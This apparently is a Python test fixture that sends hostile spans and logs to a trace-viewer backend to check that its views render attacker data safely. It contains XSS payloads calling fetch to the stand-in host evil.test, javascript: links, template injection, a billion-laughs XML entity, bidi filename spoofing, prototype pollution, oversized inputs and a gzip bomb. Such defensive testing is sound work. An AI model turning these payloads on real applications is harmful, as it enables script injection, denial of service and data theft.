"""What an attacker sends through a proxy, in the hope that somebody looks at it: in every place that a view shows."""

import gzip
import json
import struct
from typing import Any

from opentelemetry.proto.trace.v1.trace_pb2 import Span

from tests.backend.requests import attribute, sdk_span
from tests.backend.test_logs import record
from tests.browser.processes import BackendProcess
from tests.browser.traffic import GRPC, NOW, encoded, exchange, fields, grpc_message, make_id, png

PAYLOAD = "window.hacked=true;fetch('http://evil.test/')"
SCRIPT = f"<script>{PAYLOAD}</script>"
MARKUP = f'</pre></title></style>"\'><script>{PAYLOAD}</script><img src=http://evil.test/ onerror="{PAYLOAD}"><svg onload="{PAYLOAD}">'
TEMPLATE = "${window.hacked=true}{{constructor.constructor('window.hacked=true')()}}"
LINK = f"javascript:{PAYLOAD}"
CONTROL = "a\x00b\x07c\x1b[2Jd\x7fe\x9bf\u2028g\u2029h"
BIDI = "invoice\u202efdp.exe\u2066\u200f\ufeff"
HOST = f"evil.test/{MARKUP}"
SESSION = f"session/{MARKUP}?#%2e%2e/../{LINK}"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{PAYLOAD}\">{SCRIPT}<image href='http://evil.test/x'/></svg>"
PAGE = f"<!doctype html><html><head><base href='http://evil.test/'>{SCRIPT}<meta http-equiv=refresh content='0;url=http://evil.test/'></head></html>"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">'
    '<!ENTITY f SYSTEM "http://evil.test/">]><x>&c;&f;</x>'
)
NAMES = [
    "markup",
    "links",
    "control",
    "bidi",
    "svg",
    "page",
    "laughs",
    "deep",
    "proto",
    "huge",
    "frames",
    "bomb",
    "picture",
    "form",
    "numbers",
]


def exchanges() -> list[Span]:
    """One for each of ``NAMES``, which is the name of its span and its trace."""
    number = 0

    def one(name: str, **values: Any) -> Span:
        nonlocal number
        number += 1
        return exchange(name, name, start=NOW - number * 10**9, **{"session": SESSION, "service": MARKUP, **values})

    deep = 20_000
    wide = png()[:16] + struct.pack(">II", 60_000, 60_000) + png()[24:]
    return [
        one(
            "markup",
            method="GET<b>",
            host=HOST,
            path=f"/{MARKUP}",
            request_body=MARKUP,
            response_body=json.dumps({MARKUP: MARKUP, "list": [SCRIPT, TEMPLATE]}),
            more={
                **fields({MARKUP: MARKUP, "x-template": TEMPLATE, "content-type": f"text/html;{MARKUP}"}),
                f"sp.tag.{MARKUP}": MARKUP,
                "error.type": MARKUP,
                "client.address": MARKUP,
                "url.scheme": LINK,
            },
        ),
        one(
            "links",
            host="javascript:",
            path=LINK,
            response_body=json.dumps([LINK, "data:text/html," + SCRIPT, "//evil.test/"]),
            more=fields({"referer": LINK}, {"location": LINK, "link": f"<{LINK}>; rel=preload"}),
        ),
        one(
            "control",
            service=CONTROL,
            path=f"/{CONTROL}",
            session=CONTROL,
            response_body=CONTROL,
            more=fields({"x-control": CONTROL}, {"content-type": "text/plain"}),
        ),
        one(
            "bidi",
            service=BIDI,
            host=BIDI,
            path=f"/{BIDI}",
            response_body=json.dumps({BIDI: BIDI}, ensure_ascii=False),
            more=fields({BIDI: BIDI}),
        ),
        one("svg", response_body=SVG, more=fields(None, {"content-type": "image/svg+xml"})),
        one("page", response_body=PAGE, more=fields(None, {"content-type": "text/html"})),
        one("laughs", response_body=LAUGHS, more=fields(None, {"content-type": "application/xml"})),
        one("deep", request_body="[" * deep + "]" * deep, response_body='{"a":' * deep + "1" + "}" * deep),
        one(
            "proto",
            response_body='{"__proto__": {"hacked": true}, "constructor": {"prototype": {"hacked": true}}, "toString": 1, "length": "x"}',
        ),
        one(
            "huge",
            path="/" + "p" * 60_000,
            request_body="word " * 300_000,
            response_body=json.dumps(["v" * 500_000] * 3),
            more=fields({"x-huge": "h" * 200_000, "n" * 3000: "1", "content-type": "text/plain"}),
        ),
        one(
            "frames",
            method="POST",
            request_body=encoded(b"\x00\xff\xff\xff\xff" + b"\x0a" * 500),
            response_body=encoded(b"\x81\x00\x00\x00\x02hi\x00\x00"),
            more=fields({"content-type": GRPC, "grpc-encoding": MARKUP}, {"content-type": GRPC}),
        ),
        one(
            "bomb",
            method="POST",
            request_body=encoded(_compressed(bytes(64 << 20))),
            response_body=encoded(grpc_message((MARKUP, MARKUP))),
            more=fields({"content-type": GRPC, "grpc-encoding": "gzip"}, {"content-type": GRPC}),
        ),
        one(
            "picture",
            request_body=encoded(png()[:40]),
            response_body=encoded(wide),
            more=fields({"content-type": "image/png"}, {"content-type": "image/png"}),
        ),
        one(
            "form",
            method="POST",
            request_body=f"{MARKUP}={MARKUP}&%zz=%ff%00&a=%3Cscript%3E",
            response_body=encoded(
                f'--x\r\nContent-Disposition: form-data; name="{MARKUP}"\r\n\r\n{MARKUP}\r\n--x--'.encode()
            ),
            more=fields(
                {"content-type": "application/x-www-form-urlencoded"},
                {"content-type": "multipart/form-data; boundary=x"},
            ),
        ),
        one("numbers", status=99_999, took=0, more={"sp.ttfb_ms": -1e308, "http.response.body.size": 2**62}),
    ]


def _compressed(content: bytes) -> bytes:
    data = gzip.compress(content, mtime=0)
    return b"\x01" + struct.pack(">I", len(data)) + data


def send_all(backend: BackendProcess) -> None:
    """All of it."""
    for span in exchanges():
        if span.name:
            span.name = span.name[:5000] + MARKUP
        backend.send([span], MARKUP)
    strange = sdk_span(MARKUP, trace=make_id("markup", 16), span=make_id("markup/sdk", 8), parent=make_id("markup", 8))
    strange.start_time_unix_nano, strange.end_time_unix_nano = NOW, NOW + 10**6
    strange.status.message = MARKUP
    strange.attributes.append(attribute(MARKUP, MARKUP))
    strange.events.add(name=MARKUP, time_unix_nano=NOW)
    call = exchange(
        "markup",
        "markup/call",
        start=NOW,
        parent="markup",
        direction="outbound",
        service=MARKUP,
        host=HOST,
        session=SESSION,
    )
    there = exchange(
        "markup",
        "markup/there",
        start=NOW,
        parent="markup/call",
        service=f"other {BIDI} {MARKUP}",
        host=HOST,
        session=SESSION,
    )
    backend.send([strange, call, there], MARKUP)
    log = record(
        f"{MARKUP}\n{CONTROL}{BIDI}",
        time_unix_nano=NOW,
        trace_id=make_id("markup", 16),
        span_id=make_id("markup", 8),
        severity_text=MARKUP,
    )
    backend.send_logs([log], MARKUP)
